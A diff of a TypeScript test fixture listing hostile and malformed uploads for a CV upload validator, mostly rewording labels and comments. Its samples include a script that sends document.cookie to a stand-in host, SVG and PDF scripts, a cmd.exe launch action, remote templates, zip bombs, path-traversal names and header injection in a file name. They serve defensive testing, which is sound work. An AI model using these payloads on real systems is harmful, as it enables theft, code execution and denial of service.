@@ -1,17 +1,17 @@
-/** Files that people send who mean harm, or whose file is broken: none may be stored, but those that are harmless. */
+/** Malicious and broken uploads, and harmless ones that look suspicious: only the harmless ones may be stored. */
 import { deflateSync } from 'node:zlib'
 import type { FileProblem } from '@anupalan/server/contract'
 import { writeDocx, writeZip } from './zip.ts'
 
 export interface HostileFile {
   readonly what: string
-  /** As the sender calls it. */
+  /** File name of the sender. */
   readonly name: string
-  /** As the sender declares it. */
+  /** Media type of the sender. */
   readonly type: string
   readonly make: () => Buffer
-  /** Why it is refused; as what it is kept where it is what it says, whatever it is called. */
-  readonly fate: FileProblem | 'malformedForm' | { readonly keptAs: string }
+  /** The problem, or the name under which a harmless file is stored. */
+  readonly expected: FileProblem | 'malformedForm' | { readonly storedAs: string }
 }
 
 const text = (content: string) => Buffer.from(content, 'latin1')
@@ -22,7 +22,7 @@ export const smallPdf = (inside = '1 0 obj <<>> endobj') => text(`%PDF-1.7\n${in
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
 const html = '<!doctype html><html><script>fetch("//elsewhere.example/"+document.cookie)</script></html>'
 
-/** A PNG whose head promises 20,000 × 20,000 pixels: 1.6 GB where somebody draws it. */
+/** A PNG whose header states 20,000 × 20,000 pixels: 1.6 GB when decoded. */
 function hugePng(): Buffer {
   const head = Buffer.alloc(25)
   head.writeUInt32BE(13, 0)
@@ -36,11 +36,11 @@ function hugePng(): Buffer {
 const compoundFile = () =>
   Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)])
 
-/** A part of relationships with one, of a type of Office's own. */
+/** A relationships part with one relationship of an Office type. */
 const relationshipTo = (type: string, target: string, mode = 'External') =>
   `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
 
-/** A stream that holds objects of a PDF, packed. @param first where its objects begin, behind their numbers and offsets */
+/** A compressed object stream of a PDF. @param first offset of its first object */
 function objectStream(inside: string, keys = '/Type/ObjStm', first = 4): string {
   const packed = deflateSync(Buffer.from(inside, 'latin1')).toString('latin1')
   const filter = keys.includes('/Filter') ? '' : '/Filter/FlateDecode'
@@ -57,8 +57,8 @@ const file = (
   name: string,
   type: string,
   make: () => Buffer,
-  fate: HostileFile['fate'],
-): HostileFile => ({ what, name, type, make, fate })
+  expected: HostileFile['expected'],
+): HostileFile => ({ what, name, type, make, expected })
 
 export const hostileFiles: readonly HostileFile[] = [
   file('an SVG with a script', 'cv.svg', 'image/svg+xml', () => text(svg), 'wrongKind'),
@@ -66,48 +66,36 @@ export const hostileFiles: readonly HostileFile[] = [
   file('a web page', 'cv.html', 'text/html', () => text(html), 'wrongKind'),
   file('a web page called PDF', 'cv.pdf', pdf, () => text(html), 'wrongKind'),
   file(
-    'a web page with a PDF’s mark inside',
+    'a web page that contains the magic number of PDF',
     'cv.pdf',
     pdf,
     () => text(`${html}\n%PDF-1.7${pdfEnd}`),
     'wrongKind',
   ),
   file(
-    'a PDF with a web page behind it',
+    'a PDF followed by a web page',
     'cv.pdf',
     pdf,
     () => Buffer.concat([smallPdf(), text(html)]),
     'damaged',
   ),
+  file('a PDF followed by a zip', 'cv.pdf', pdf, () => Buffer.concat([smallPdf(), writeDocx()]), 'damaged'),
+  file('a zip preceded by a PDF', 'cv.docx', word, () => Buffer.concat([smallPdf(), writeDocx()]), 'damaged'),
   file(
-    'a PDF with a zip behind it',
-    'cv.pdf',
-    pdf,
-    () => Buffer.concat([smallPdf(), writeDocx()]),
-    'damaged',
-  ),
-  file(
-    'a zip with a PDF before it',
-    'cv.docx',
-    word,
-    () => Buffer.concat([smallPdf(), writeDocx()]),
-    'damaged',
-  ),
-  file(
-    'a GIF with a Word document behind it',
+    'a GIF followed by a Word document',
     'cv.docx',
     word,
     () => Buffer.concat([text('GIF89a'), writeDocx()]),
     'wrongKind',
   ),
   file(
-    'a Word document with a PDF as its comment',
+    'a Word document with a PDF as its zip comment',
     'cv.docx',
     word,
     () => writeDocx([], undefined, `%PDF-1.7${pdfEnd}`),
     'damaged',
   ),
-  file('a PDF whose inside is a web page', 'cv.pdf', pdf, () => smallPdf(html), { keptAs: 'cv.pdf' }),
+  file('a PDF that contains a web page', 'cv.pdf', pdf, () => smallPdf(html), { storedAs: 'cv.pdf' }),
   file('a program', 'cv.exe', 'application/octet-stream', () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
   file('a program called PDF', 'cv.pdf', pdf, () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
   file('an ELF program', 'cv.docx', word, () => text(`\x7fELF${'\0'.repeat(200)}`), 'wrongKind'),
@@ -132,34 +120,28 @@ export const hostileFiles: readonly HostileFile[] = [
   ),
   file('an old Word document', 'cv.doc', 'application/msword', compoundFile, 'wrongKind'),
   file(
-    'a Word document locked by a password',
+    'a password-protected Word document',
     'cv.docx',
     word,
     () => Buffer.concat([compoundFile(), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]),
     'locked',
   ),
-  file('a picture of 20,000 pixels', 'cv.png', 'image/png', hugePng, 'wrongKind'),
-  file('a picture of 20,000 pixels called PDF', 'cv.pdf', pdf, hugePng, 'wrongKind'),
+  file('an image of 20,000 pixels', 'cv.png', 'image/png', hugePng, 'wrongKind'),
+  file('an image of 20,000 pixels called PDF', 'cv.pdf', pdf, hugePng, 'wrongKind'),
   file(
-    'a picture of 20,000 pixels inside a Word document',
+    'an image of 20,000 pixels inside a Word document',
     'cv.docx',
     word,
     () => writeDocx([{ name: 'word/media/image1.png', bytes: hugePng() }]),
-    { keptAs: 'cv.docx' },
+    { storedAs: 'cv.docx' },
   ),
-  file('nothing', 'cv.pdf', pdf, () => Buffer.alloc(0), 'empty'),
+  file('an empty file', 'cv.pdf', pdf, () => Buffer.alloc(0), 'empty'),
   file('one byte', 'cv.pdf', pdf, () => text('%'), 'wrongKind'),
   file('zeros', 'cv.pdf', pdf, () => Buffer.alloc(4096), 'wrongKind'),
-  file('a PDF’s mark and nothing else', 'cv.pdf', pdf, () => text('%PDF-1.7'), 'damaged'),
+  file('only the magic number of PDF', 'cv.pdf', pdf, () => text('%PDF-1.7'), 'damaged'),
+  file('a truncated PDF', 'cv.pdf', pdf, () => smallPdf('x'.repeat(4000)).subarray(0, 2000), 'damaged'),
   file(
-    'a PDF cut off half-way',
-    'cv.pdf',
-    pdf,
-    () => smallPdf('x'.repeat(4000)).subarray(0, 2000),
-    'damaged',
-  ),
-  file(
-    'a Word document cut off half-way',
+    'a truncated Word document',
     'cv.docx',
     word,
     () => {
@@ -169,28 +151,28 @@ export const hostileFiles: readonly HostileFile[] = [
     'damaged',
   ),
   file(
-    'one byte more than may be',
+    'one byte above the limit',
     'cv.pdf',
     pdf,
     () => smallPdf('%'.repeat(5 * megabyte + 1 - smallPdf('').length)),
     'large',
   ),
   file(
-    'the most that may be',
+    'exactly at the limit',
     'cv.pdf',
     pdf,
     () => smallPdf('%'.repeat(5 * megabyte - smallPdf('').length)),
-    { keptAs: 'cv.pdf' },
+    { storedAs: 'cv.pdf' },
   ),
   file(
-    'a bomb: one part of 80 MB',
+    'a zip bomb: one part of 80 MB',
     'cv.docx',
     word,
     () => writeDocx([{ name: 'word/media/a.bin', bytes: Buffer.alloc(80 * megabyte) }]),
     'damaged',
   ),
   file(
-    'a bomb that claims to be small, in the one part that is read',
+    'a zip bomb with a false size in the one part that is read',
     'cv.docx',
     word,
     () =>
@@ -201,7 +183,7 @@ export const hostileFiles: readonly HostileFile[] = [
     'damaged',
   ),
   file(
-    'a bomb of parts on top of each other',
+    'a zip bomb of overlapping parts',
     'cv.docx',
     word,
     () =>
@@ -222,7 +204,7 @@ export const hostileFiles: readonly HostileFile[] = [
     'damaged',
   ),
   file(
-    'a part that leads out of its folder',
+    'a part with path traversal',
     'cv.docx',
     word,
     () => writeDocx([{ name: '../../../etc/cron.d/x', bytes: 'x' }]),
@@ -243,14 +225,14 @@ export const hostileFiles: readonly HostileFile[] = [
     'damaged',
   ),
   file(
-    'the same part twice',
+    'a duplicate part',
     'cv.docx',
     word,
     () => writeDocx([{ name: 'word/document.xml', bytes: '<other/>' }]),
     'damaged',
   ),
   file(
-    'a part locked by a password',
+    'an encrypted part',
     'cv.docx',
     word,
     () => writeDocx([{ name: 'word/media/x', bytes: 'x', isEncrypted: true }]),
@@ -265,7 +247,7 @@ export const hostileFiles: readonly HostileFile[] = [
   ),
   file('macros called docx', 'cv.docx', word, () => writeDocx([], macroMain), 'macros'),
   file(
-    'macros under another spelling',
+    'macros in upper case',
     'cv.docx',
     word,
     () => writeDocx([{ name: 'word/VBAPROJECT.BIN', bytes: 'x' }]),
@@ -274,19 +256,19 @@ export const hostileFiles: readonly HostileFile[] = [
   ...[
     ['a remote template', relationshipTo('attachedTemplate', 'https://elsewhere.example/x.dotm')],
     [
-      'a template on another machine',
+      'a template as a UNC path of another machine',
       relationshipTo('attachedTemplate', String.raw`\\\\elsewhere\\share\\x.dotm`),
     ],
     [
-      'a template as a file of another machine',
+      'a template as a file URL of another machine',
       relationshipTo('attachedTemplate', 'file://elsewhere/x.dotm'),
     ],
     [
       'a remote template by entities',
       relationshipTo('attachedTemplat&#101;', 'https://elsewhere.example/x', 'Externa&#x6c;'),
     ],
-    ['a remote picture', relationshipTo('image', 'https://elsewhere.example/seen.png')],
-    ['an OLE object that is elsewhere', relationshipTo('oleObject', 'https://elsewhere.example/x.xls')],
+    ['a remote image', relationshipTo('image', 'https://elsewhere.example/seen.png')],
+    ['a remote OLE object', relationshipTo('oleObject', 'https://elsewhere.example/x.xls')],
     ['a frame', relationshipTo('frame', 'https://elsewhere.example/')],
     ['a web page inside', relationshipTo('aFChunk', '/word/chunk.html', 'Internal')],
   ].map(([what, rels]) =>
@@ -342,7 +324,7 @@ export const hostileFiles: readonly HostileFile[] = [
     'active',
   ),
   file(
-    'a Word document with a field that starts a program, in pieces',
+    'a Word document with a field that starts a program, split into pieces',
     'cv.docx',
     word,
     () =>
@@ -356,7 +338,7 @@ export const hostileFiles: readonly HostileFile[] = [
     'active',
   ),
   file(
-    'a Word document with links, and made from a template on its writer’s disk',
+    'a Word document with links, and with a template on its author’s disk',
     'cv.docx',
     word,
     () =>
@@ -371,7 +353,7 @@ export const hostileFiles: readonly HostileFile[] = [
         },
         { name: 'word/header1.xml', bytes: '<w:hdr><w:instrText> PAGE </w:instrText>Added 2 years</w:hdr>' },
       ]),
-    { keptAs: 'cv.docx' },
+    { storedAs: 'cv.docx' },
   ),
   ...[
     ['a script', '1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'],
@@ -379,7 +361,7 @@ export const hostileFiles: readonly HostileFile[] = [
       'a script that runs when it is opened',
       '1 0 obj <</Type/Catalog/OpenAction<</S /JavaScript /JS 2 0 R>>>> endobj',
     ],
-    ['a script under another spelling', '1 0 obj <</S/J#61vaScr#69pt/#4A#53(x)>> endobj'],
+    ['a script with escaped names', '1 0 obj <</S/J#61vaScr#69pt/#4A#53(x)>> endobj'],
     [
       'a script in an object that begins inside a string',
       '1 0 obj (text 2 0 obj <</S/JavaScript>> endobj) endobj',
@@ -392,23 +374,23 @@ export const hostileFiles: readonly HostileFile[] = [
       'a script in an object that begins inside a stream',
       '1 0 obj <</Length 9>> stream\n2 0 obj <</JS(x)>> endobj\nendstream endobj',
     ],
-    ['a program that it starts', '1 0 obj <</S/Launch/F(cmd.exe)>> endobj'],
-    ['another file inside', '1 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj'],
-    ['a form that is sent elsewhere', '1 0 obj <</S/SubmitForm/F(https://elsewhere.example)>> endobj'],
-    ['a script in a stream of objects', objectStream('1 0 <</S/JavaScript/JS(x)>>')],
-    ['a script in a stream of objects that does not say so', objectStream('1 0 <</S/JavaScript/JS(x)>>', '')],
+    ['an action that starts a program', '1 0 obj <</S/Launch/F(cmd.exe)>> endobj'],
+    ['an embedded file', '1 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj'],
+    ['a form that is submitted', '1 0 obj <</S/SubmitForm/F(https://elsewhere.example)>> endobj'],
+    ['a script in an object stream', objectStream('1 0 <</S/JavaScript/JS(x)>>')],
+    ['a script in an object stream without its type', objectStream('1 0 <</S/JavaScript/JS(x)>>', '')],
     [
-      'a script that a string of a stream of objects hides',
+      'a script hidden by a string in an object stream',
       objectStream('1 0 2 14 (never closed <</JS(x)>>', '/Type/ObjStm', 8),
     ],
-    ['a stream of objects packed in another way', objectStream('1 0 <<>>', '/Type/ObjStm/Filter/LZWDecode')],
+    ['an object stream with another filter', objectStream('1 0 <<>>', '/Type/ObjStm/Filter/LZWDecode')],
     [
-      'a stream of objects packed twice',
+      'an object stream with two filters',
       objectStream('1 0 <<>>', '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'),
     ],
   ].map(([what, inside]) => file(`a PDF with ${what}`, 'cv.pdf', pdf, () => smallPdf(inside), 'active')),
   file(
-    'a PDF locked by a password',
+    'an encrypted PDF',
     'cv.pdf',
     pdf,
     () =>
@@ -418,47 +400,41 @@ export const hostileFiles: readonly HostileFile[] = [
     'locked',
   ),
   file(
-    'a PDF locked by a password, its trailer in a stream',
+    'an encrypted PDF with a cross-reference stream',
     'cv.pdf',
     pdf,
     () => smallPdf('1 0 obj <</Type/XRef/Encrypt 2 0 R/Length 1>> stream\nx\nendstream endobj'),
     'locked',
   ),
   file(
-    'a PDF whose stream of objects is a bomb',
+    'a PDF whose object stream is a decompression bomb',
     'cv.pdf',
     pdf,
     () => smallPdf(objectStream(' '.repeat(40 * megabyte))),
     'damaged',
   ),
+  file('a PDF of overlapping objects', 'cv.pdf', pdf, () => smallPdf('1 0 obj '.repeat(500_000)), 'damaged'),
   file(
-    'a PDF that is read again and again',
-    'cv.pdf',
-    pdf,
-    () => smallPdf('1 0 obj '.repeat(500_000)),
-    'damaged',
-  ),
-  file(
-    'a PDF that speaks of scripts and begins at a page',
+    'a PDF that mentions scripts in text and opens at a page',
     'cv.pdf',
     pdf,
     () =>
       smallPdf(
         `1 0 obj <</Title(HTML/CSS/JavaScript \\( /JS)/OpenAction[3 0 R/Fit]/URI(https://x.example/JS)>> endobj\n${objectStream('1 0 <</Title(/JavaScript)>>')}\n2 0 obj <</Filter/FlateDecode/Length 9>> stream\n /JS /Launch \nendstream endobj`,
       ),
-    { keptAs: 'cv.pdf' },
+    { storedAs: 'cv.pdf' },
   ),
-  file('a PDF with two endings', 'cv.pdf.exe', pdf, smallPdf, { keptAs: 'cv.pdf.exe.pdf' }),
-  file('a PDF whose name leads out of its folder', '../../../../etc/passwd', pdf, smallPdf, {
-    keptAs: 'passwd.pdf',
+  file('a PDF with two extensions', 'cv.pdf.exe', pdf, smallPdf, { storedAs: 'cv.pdf.exe.pdf' }),
+  file('a PDF whose name has path traversal', '../../../../etc/passwd', pdf, smallPdf, {
+    storedAs: 'passwd.pdf',
   }),
   file('a PDF whose name has a NUL', 'cv.php\0.pdf', pdf, smallPdf, 'malformedForm'),
-  file('a PDF declared as a web page', 'cv.html', 'text/html', smallPdf, { keptAs: 'cv.html.pdf' }),
+  file('a PDF declared as a web page', 'cv.html', 'text/html', smallPdf, { storedAs: 'cv.html.pdf' }),
   file('a PDF whose name is a header', 'cv.pdf\r\nContent-Type: text/html', pdf, smallPdf, 'missing'),
-  file('a PDF with a Hindi name', 'लक्ष्मी-नारायण.pdf', pdf, smallPdf, { keptAs: 'लक्ष्मी-नारायण.pdf' }),
+  file('a PDF with a Hindi name', 'लक्ष्मी-नारायण.pdf', pdf, smallPdf, { storedAs: 'लक्ष्मी-नारायण.pdf' }),
 ]
 
-/** A multipart body byte for byte, its file name as raw as it is. */
+/** A multipart body, with the file name unescaped. */
 export function rawForm(
   fields: Readonly<Record<string, string>>,
   { name, type, make }: Pick<HostileFile, 'name' | 'type' | 'make'>,
